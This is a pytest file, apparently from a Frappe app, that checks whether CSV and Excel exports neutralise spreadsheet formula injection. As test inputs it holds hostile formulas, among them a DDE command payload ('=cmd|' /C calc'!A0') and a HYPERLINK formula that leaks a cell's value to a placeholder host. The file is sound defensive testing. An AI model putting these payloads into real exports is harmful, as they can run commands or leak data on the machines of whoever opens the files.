		"-2+3+cmd|x",
		"@SUM(1)",
		"\t=1",
		"\r=1",
		" =1",
		"＝1+1",
		'=HYPERLINK("http://x")',
	],
)
def test_formulas_become_text(formula):
	assert formulas.disarm(formula) == f"'{formula}"
	content = io.StringIO(newline="")
	csv.writer(content).writerows([["Name", "Note"], [formula, "ö"]])
	for mark in ("", "\ufeff"):
		rows = list(
			csv.reader(
				io.StringIO(formulas.disarm_csv((mark + content.getvalue()).encode()).decode(), newline="")
			)
		)
		assert rows[1] == [f"'{formula}", "ö"]


def test_formulas_in_workbooks_become_text():
	from frappe.utils.xlsxutils import make_xlsx

	hostile = '=HYPERLINK("http://x?"&A1,"Anna & Co")'
	content = make_xlsx(
		[["Name", "Count"], [hostile, 5], ["+1+1", None], ["Anna", 1.5]], "Members"
	).getvalue()
	assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].data_type == "f", "nothing to disarm"
	sheet = openpyxl.load_workbook(io.BytesIO(formulas.disarm_xlsx(content))).active
	assert [cell.data_type for row in sheet.iter_rows() for cell in row].count("f") == 0
	assert (sheet["A2"].value, sheet["B2"].value, sheet["A3"].value, sheet["B4"].value) == (
		hostile,
		5,
		"+1+1",
		1.5,
	)


@pytest.mark.parametrize("file_format", ["CSV", "Excel"])
def test_exports_of_ours_hold_no_formula(people, make, file_format):
	frappe.db.set_value("Membership Prospect", people.own.name, "next_action", "=cmd|' /C calc'!A0")
	frappe.set_user(make.user("Recruitment Manager"))
	frappe.local.form_dict = frappe._dict(
		doctype="Membership Prospect",
		file_format_type=file_format,
		title="x",
		fields=json.dumps(["`tabMembership Prospect`.`next_action`"]),
		start=0,
		page_length=50,
	)
	replaced_downloads.export_list()
	content = frappe.response["filecontent"]
	if file_format == "CSV":
		assert b"'=cmd" in content
		assert b',"=cmd' not in content
	else:
		sheet = openpyxl.load_workbook(io.BytesIO(content)).active
		cells = [cell for row in sheet.iter_rows() for cell in row]
		assert "=cmd|' /C calc'!A0" in [cell.value for cell in cells]
		assert all(cell.data_type != "f" for cell in cells)
